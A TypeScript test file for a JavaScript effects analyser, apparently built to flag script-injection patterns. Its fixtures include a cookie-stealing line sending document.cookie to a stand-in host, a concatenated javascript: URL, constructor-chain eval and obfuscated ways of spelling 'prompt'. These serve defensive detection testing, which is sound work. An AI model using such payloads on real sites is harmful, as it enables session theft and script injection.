import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { readCode } from './code-reading.ts';
import { effects } from './javascript-effects.ts';

const effectsOf = (code: string): string =>
  Object.entries(effects)
    .filter(([, bit]) => (readCode(code).effects & bit) !== 0)
    .map(([name]) => name)
    .join(' ');

describe('the effects of code', () => {
  for (const [code, expected] of [
    ['f(1)', 'call'],
    ['1alert(1)', ''],
    ['x.alert(1)', 'call'],
    ['(0,alert)(1)', 'call dialog'],
    ['alert?.call(null, 1)', 'call dialog'],
    ['alert`1`', 'call dialog tagged'],
    [`\`a \${ alert(1) } b\``, 'call dialog'],
    ['/* x */ window // y\n.confirm(1)', 'call dialog'],
    ['return confirm("Delete?")', 'call asks'],
    ['history.back()', ''],
    ['void(0);', ''],
    ['"alert(1)"', ''],
    ['/alert(1)/.test(x)', 'call'],
    ['a / b; alert(1) / c', 'call dialog'],
    ['setTimeout(run, 10)', 'call'],
    ['setTimeout("run()", 10)', 'call'],
    ['setTimeout("run()")', 'call evaluate'],
    ['a.location = "//h.test"', 'assign'],
    ['top.location = "//h.test"', 'assign navigate'],
    ['location = "java" + "script:run()"', 'assign navigate scriptUrl'],
    ['x.y == 1', ''],
    ['new Image().src = "//h.test/" + document.cookie', 'call assign session'],
    ['onerror = alert; throw 1', 'assign reference throw handler'],
    ['top[k](1)', 'call dynamic'],
    ['list[0](1)', 'call'],
    ['x.constructor.constructor("run()")()', 'call chain'],
    ['x.constructor.name', ''],
    ['MsgBox 1', 'dialog'],
  ] as const) {
    it(`${code} → ${expected || 'none'}`, () => assert.equal(effectsOf(code), expected));
  }

  it('include a computed name, however it is put together', () => {
    const piece = fc.constantFrom('plain', 'hex', 'unicode', 'template', 'regex', 'list');
    fc.assert(
      fc.property(fc.array(piece, { minLength: 6, maxLength: 6 }), (kinds) => {
        const parts = kinds.map((kind, index) => written('prompt'.charAt(index), kind));
        const code = `self[/**/ ${parts.join(' + ')}](1)`;
        assert.equal(readCode(code).effects & effects.computed, effects.computed, code);
      }),
    );
  });

  it('are read to the end of anything', () => {
    const pieces = fc.constantFrom(
      ...'\'"`(){}[]/*\\+.=,;<!-${'.split(''),
      'a',
      '1',
      '\n',
      '\\u{',
      '/[',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 60 }), (tokens) => {
        const code = tokens.join('');
        assert.ok(readCode(code).end <= code.length);
      }),
    );
  });
});

function written(letter: string, kind: string): string {
  const hex = letter.charCodeAt(0).toString(16);
  if (kind === 'hex') return `'\\x${hex}'`;
  if (kind === 'unicode') return `"\\u00${hex}"`;
  if (kind === 'template') return `\`${letter}\``;
  if (kind === 'regex') return `/${letter}/.source`;
  return kind === 'list' ? `['${letter}'].join('')` : `'${letter}'`;
}
